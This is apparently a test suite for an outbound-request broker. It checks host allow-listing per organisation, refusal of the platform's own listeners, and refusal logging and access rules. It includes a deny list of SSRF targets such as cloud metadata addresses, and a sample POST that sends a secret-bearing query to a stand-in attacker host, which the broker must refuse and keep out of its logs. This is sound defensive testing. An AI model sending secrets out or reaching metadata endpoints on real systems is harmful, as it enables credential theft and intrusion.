import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
import { join } from 'node:path'
import { asUser } from '@bmm/lib/client'
import { accessTable } from '@bmm/lib/contracts'
import { type ServiceName, serviceNames } from '@bmm/lib/identity'
import { newId } from '@bmm/lib/ids'
import { openSql } from '@bmm/lib/sql'
import { testDatabase, testLog, testUser } from '@bmm/lib/testing'
import { reason } from '@bmm/lib/testing-outcome'
import { until } from '@bmm/lib/testing-until'
import { type RawUpstream, rawUpstream } from '@bmm/lib/testing-upstream'
import { RefusalService, TargetService } from '@bmm/proto/broker/v1/broker_service'
import { FetchFailure } from './outgoing.ts'
import { openRefusals } from './refusals.ts'
import { openTargets } from './targets.ts'
import { startTestBroker, type TestBroker } from './testing.ts'

let broker: TestBroker
let upstream: RawUpstream
let origin: string

beforeAll(async () => {
  upstream = await rawUpstream('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok')
  const own = await rawUpstream('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nme')
  broker = await startTestBroker({
    resolve: async () => ['127.0.0.1'],
    ownListeners: [`127.0.0.1:${own.port}`],
  })
  origin = `http://box.lan:${upstream.port}`
  ownPort = own.port
  closeOwn = own.close
})
afterAll(async () => {
  upstream.close()
  closeOwn()
  await broker[Symbol.asyncDispose]()
})
let ownPort = 0
let closeOwn = () => {}

const targets = (from: ServiceName = 'operator') => broker.rpc.client(TargetService, 'broker', from)
const refusals = (from: ServiceName = 'gateway') =>
  broker.rpc.client(RefusalService, 'broker', from)

describe('targets', () => {
  test('are listed as allowed, in one spelling, and are gone when removed', async () => {
    const { target } = await targets().allowTarget({ host: 'NAS.Lan', port: 8080 })
    expect(target).toMatchObject({ host: 'nas.lan', port: 8080, orgId: '' })
    await targets().allowTarget({ host: 'nas.lan', port: 8080 })
    await targets().allowTarget({ host: '[::1]', port: 81 })
    await targets().allowTarget({ host: '127.1', port: 82 })
    const listed = (await targets('generator').listTargets({})).targets
    expect(listed.map(({ host, port }) => `${host} ${port}`)).toEqual([
      '127.0.0.1 82',
      '::1 81',
      'nas.lan 8080',
    ])
    for (const { host, port } of listed) await targets().removeTarget({ host, port })
    expect((await targets().listTargets({})).targets).toEqual([])
    expect(await reason(targets().removeTarget({ host: 'nas.lan', port: 8080 }))).toBe(
      'target_not_found',
    )
  })

  test.each([
    '169.254.169.254',
    'metadata.google.internal',
    '0.0.0.0',
    '224.0.0.1',
    'fe80::1',
    'a b',
    'http://box.lan',
    'box.lan/path',
    'box.lan:80',
    'user@box.lan',
    'box.lan.',
  ])('"%s" cannot be allowed', async (host) => {
    expect(await reason(targets().allowTarget({ host, port: 80 }))).toBe('target_invalid')
  })

  test('open the way for one organisation or for all, and close it again', async () => {
    const { statement, signed } = broker.sign({ egress: [{ origin }] })
    const mine = await broker.sandbox(signed)
    const other = await broker.sandbox(broker.sign({ egress: [{ origin }] }).signed)
    const target = { host: 'box.lan', port: upstream.port }
    expect(await mine.fetch(`${origin}/`)).toMatchObject({ failed: 'host_refused' })
    await targets().allowTarget({ ...target, orgId: statement.orgId })
    expect(await mine.fetch(`${origin}/`)).toMatchObject({ status: 200 })
    expect(await other.fetch(`${origin}/`)).toMatchObject({ failed: 'host_refused' })
    await targets().allowTarget(target)
    expect(await other.fetch(`${origin}/`)).toMatchObject({ status: 200 })
    await targets().removeTarget(target)
    expect(await other.fetch(`${origin}/`)).toMatchObject({ failed: 'host_refused' })
    expect(await mine.fetch(`${origin}/`)).toMatchObject({ status: 200 })
    await targets().removeTarget({ ...target, orgId: statement.orgId })
    expect(await mine.fetch(`${origin}/`)).toMatchObject({ failed: 'host_refused' })
  })

  test('never open the way to the platform itself', async () => {
    const own = `http://gate.lan:${ownPort}`
    await targets().allowTarget({ host: 'gate.lan', port: ownPort })
    await targets().allowTarget({ host: '127.0.0.1', port: ownPort })
    const local = `http://127.0.0.1:${ownPort}`
    const egress = [{ origin: own }, { origin: local }]
    const { fetch } = await broker.sandbox(broker.sign({ egress }).signed)
    expect(await fetch(`${own}/`)).toMatchObject({ failed: 'own_listener' })
    expect(await fetch(`${local}/`)).toMatchObject({ failed: 'own_listener' })
    await targets().removeTarget({ host: 'gate.lan', port: ownPort })
    await targets().removeTarget({ host: '127.0.0.1', port: ownPort })
  })

  test('changed by another broker act here soon', async () => {
    await using other = await openTargets({ sql: broker.sql, log: testLog })
    const { fetch } = await broker.sandbox(broker.sign({ egress: [{ origin }] }).signed)
    const target = { host: 'box.lan', port: upstream.port, orgId: '' }
    await other.allow(target)
    await until(async () => 'status' in (await fetch(`${origin}/`)))
    await other.remove(target)
    await until(async () => 'failed' in (await fetch(`${origin}/`)))
  })

  test('are a thousand at most', async () => {
    await using database = await testDatabase('broker', join(import.meta.dir, 'migrations'))
    await using full = await openTargets({ sql: database.sql, log: testLog })
    await database.sql`
      insert into targets (host, port, org_id)
      select 'box' || n || '.lan', 80, '' from generate_series(1, 999) n`
    await full.allow({ host: 'last.lan', port: 80, orgId: '' })
    const next = { host: 'next.lan', port: 80, orgId: '' }
    expect(await reason(full.allow(next))).toBe('too_many_targets')
    expect(full.isAllowed('org_any', 'next.lan', 80)).toBe(false)
    await full.remove({ host: 'last.lan', port: 80, orgId: '' })
    expect(await reason(full.allow(next))).toBe('done')
  })

  test('stay allowed while the database restarts, and end when nobody can take them back', async () => {
    await using database = await testDatabase('broker', join(import.meta.dir, 'migrations'))
    const sql = openSql(database.url, { schema: 'broker', max: 1 })
    const keepMs = 2_500
    await using cutOff = await openTargets({ sql, log: testLog, keepMs })
    const allowedAt = performance.now()
    await cutOff.allow({ host: 'box.lan', port: 1, orgId: '' })
    const isAllowed = () => cutOff.isAllowed('org_any', 'box.lan', 1)
    await sql.end({ timeout: 1 })
    await until(async () => reasonFor(isAllowed) === 'targets_unknown')
    expect(cutOff.isAllowed('org_any', 'other.lan', 1)).toBe(false)
    expect(performance.now() - allowedAt).toBeGreaterThan(keepMs)
  })
})

describe('refusals', () => {
  test('tell the people of the organisation what was refused and why, newest first', async () => {
    const user = testUser()
    const { statement, signed } = broker.sign({ egress: [{ origin }], orgId: user.orgId })
    const { fetch } = await broker.sandbox(signed)
    await fetch('https://evil.example.com/path?key=hunter2', { method: 'POST' })
    await fetch(`${origin}/`)
    const { serverId } = statement
    const listed = await refusals().listRefusals(
      { serverId },
      asUser(await broker.identities.mintUser(user)),
    )
    expect(listed.refusals).toMatchObject([
      { reason: 'host_refused', host: 'box.lan', method: 'GET' },
      {
        reason: 'origin_not_allowed',
        host: 'evil.example.com',
        method: 'POST',
        message: expect.stringContaining('https://evil.example.com'),
      },
    ])
    const text = JSON.stringify(
      await broker.sql`select * from refusals where server_id = ${serverId}`,
    )
    expect(text).not.toContain('hunter2')
    expect(text).toContain('usr_test')
    const stranger = asUser(await broker.identities.mintUser(testUser()))
    expect((await refusals().listRefusals({ serverId }, stranger)).refusals).toEqual([])
  })

  test('need a person who may read logs', async () => {
    const serverId = newId('srv')
    expect(await reason(refusals().listRefusals({ serverId }))).toBe('user_required')
    const billing = asUser(await broker.identities.mintUser(testUser({ role: 'billing' })))
    expect(await reason(refusals().listRefusals({ serverId }, billing))).toBe('permission_missing')
  })

  test('are bounded in rate for each server, and in number by the trimming', async () => {
    const at = Date.now()
    const log = openRefusals({ sql: broker.sql, log: testLog, now: () => at })
    const [serverId, quiet] = [newId('srv'), newId('srv')]
    const row = (server: string) => ({
      ...{ serverId: server, orgId: newId('org'), userId: 'usr_x', at: new Date() },
      ...{ reason: 'x', host: 'h'.repeat(9_000), method: 'GET', message: 'm'.repeat(9_000) },
    })
    for (let at = 0; at < 500; at++) log.record(row(serverId))
    log.record(row(quiet))
    await log[Symbol.asyncDispose]()
    const counted = await broker.sql<{ server: string; count: number; longest: number }[]>`
      select server_id as server, count(*)::int as count, max(length(host || message))::int as longest
      from refusals where server_id in (${serverId}, ${quiet}) group by 1 order by 2`
    expect(counted).toEqual([
      { server: quiet, count: 1, longest: 753 },
      { server: serverId, count: 60, longest: 753 },
    ] as never)
  })
})

test('each RPC answers only the services that its contract names', async () => {
  const user = asUser(await broker.identities.mintUser(testUser()))
  const calls: Record<string, (from: ServiceName) => Promise<unknown>> = {
    AllowTarget: (from) => targets(from).allowTarget({ host: 'a.lan', port: 1 }, user),
    ListTargets: (from) => targets(from).listTargets({}, user),
    RemoveTarget: (from) => targets(from).removeTarget({ host: 'a.lan', port: 1 }, user),
    ListRefusals: (from) => refusals(from).listRefusals({ serverId: newId('srv') }, user),
  }
  const rows = accessTable().filter(({ process }) => process === 'broker')
  expect(rows.map(({ method }) => method.name).sort()).toEqual(Object.keys(calls).sort())
  for (const { method, callers } of rows) {
    for (const from of serviceNames.filter((name) => !callers.includes(name))) {
      expect(await reason(calls[method.name]?.(from) ?? Promise.resolve())).toBe(
        'caller_not_allowed',
      )
    }
  }
})

/** The code of what it throws. */
function reasonFor(act: () => unknown): string | undefined {
  try {
    act()
    return undefined
  } catch (error) {
    return error instanceof FetchFailure ? error.code : String(error)
  }
}
